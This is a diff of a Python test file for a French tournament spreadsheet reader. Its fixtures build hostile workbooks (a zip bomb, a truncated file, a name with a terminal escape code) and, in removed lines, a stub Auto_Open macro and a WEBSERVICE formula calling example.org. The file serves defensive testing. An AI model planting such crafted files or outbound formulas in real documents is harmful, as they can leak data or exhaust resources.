@@ -29,28 +29,27 @@ from tournament_xl.lists.read import read_register
 
 DAY = date(2016, 8, 31)
 ROOT = Path(__file__).parent.parent
-SHEET, RESULTS = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"  # Joueurs, Résultats
+SHEET = "xl/worksheets/sheet2.xml"  # Joueurs
 
 
 def facts(seed=0, title="Tournoi", **changes):
     return world.tournament(Random(seed), people(8), date(2015, 10, 4), title=title) | changes
 
 
-def made(sheets=lambda sheets: None, content=lambda content: None, **changes):
-    """What writes a workbook with other facts, or with its sheets or its parts changed."""
+def made(change=lambda sheets: None, **changes):
+    """What writes a workbook with other facts, or with its sheets changed."""
 
     def make(path):
-        rows = world.sheets(facts(crc32(path.stem.encode()), path.stem, **changes))
-        sheets(rows)
-        packed = parts(rows)
-        content(packed)
-        pack(path, packed)
+        sheets = world.sheets(facts(crc32(path.stem.encode()), path.stem, **changes))
+        change(sheets)
+        pack(path, parts(sheets))
 
     return make
 
 
-def cut(content):
-    content[SHEET] = content[SHEET][:-99]
+def cut(path):
+    made()(path)
+    path.write_bytes(path.read_bytes()[:-999])
 
 
 def bomb(path):
@@ -80,7 +79,7 @@ LEFT_OUT = {
     "\x1b[31mrouge.xlsx": (holding(b"Nom;Licence\n" * 99), "n'est pas un classeur Excel"),
     "gros.xlsx": (holding(bytes(25_000_000)), "Trop gros"),
     "bombe.xlsx": (bomb, "trop gros.*une fois décompressé"),
-    "sans-fin.xlsx": (made(content=cut), "abîmé"),
+    "sans-fin.xlsx": (cut, "abîmé"),
     "sans-joueurs.xlsx": (made(lambda sheets: sheets.pop("Joueurs")), "la feuille « Joueurs » manque"),
     "en-cours.xlsx": (made(not_finished), r"rondes jouées, 4 sur 5"),
     "sans-date.xlsx": (made(without_dates), "sans dates possibles"),
@@ -91,27 +90,12 @@ LEFT_OUT = {
 }  # name -> what makes it, what its sentence must say
 
 
-def macros(content):
-    content["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Sub Auto_Open()"
-
-
-def formulas(content):
-    """A name and a score that are formulas: their last results count, nothing is calculated."""
-    name = '<c r="B2" t="str"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>NOM01</v></c>'
-    content[SHEET] = re.sub(r'<c r="B2".*?</c>', name, content[SHEET])
-    content[RESULTS] = re.sub(r'<c r="E2"><v>(\d+)</v></c>', r'<c r="E2"><f>1/0</f><v>\1</v></c>', content[RESULTS])
-    assert "WEBSERVICE" in content[SHEET] and "<f>1/0</f>" in content[RESULTS]
-
-
-COUNTED = {"macros.xlsm": made(content=macros), "formules.xlsx": made(content=formulas)}
-
-
 @pytest.fixture(scope="module")
 def verdicts(tmp_path_factory):
     """File name -> what became of it."""
     folder = tmp_path_factory.mktemp("recus")
     world.write(folder / "bon.xlsx", facts(1, "Le bon"))
-    for name, make in ({name: make for name, (make, _) in LEFT_OUT.items()} | COUNTED).items():
+    for name, (make, _) in LEFT_OUT.items():
         make(folder / name)
     (folder / "Sauvegardes").mkdir()
     world.write(folder / "Sauvegardes" / "bon.xlsx", facts(1, "Le bon"))
@@ -126,11 +110,8 @@ def shown(name):
     return name if name.isprintable() else repr(name)
 
 
-def test_a_bad_file_never_stops_the_others_macros_are_ignored_and_last_results_of_formulas_read(verdicts):
-    assert verdicts.keys() == {"bon.xlsx", *map(shown, LEFT_OUT), *COUNTED}
-    assert all(verdicts[name].found for name in ("bon.xlsx", *COUNTED))
-    entrant = verdicts["formules.xlsx"].file.played.entrants[0]
-    assert (entrant.name, entrant.licence) == ("NOM01", "L01")
+def test_a_bad_file_never_stops_the_others(verdicts):
+    assert verdicts.keys() == {"bon.xlsx", *map(shown, LEFT_OUT)} and verdicts["bon.xlsx"].found
 
 
 @pytest.mark.parametrize("name", LEFT_OUT)
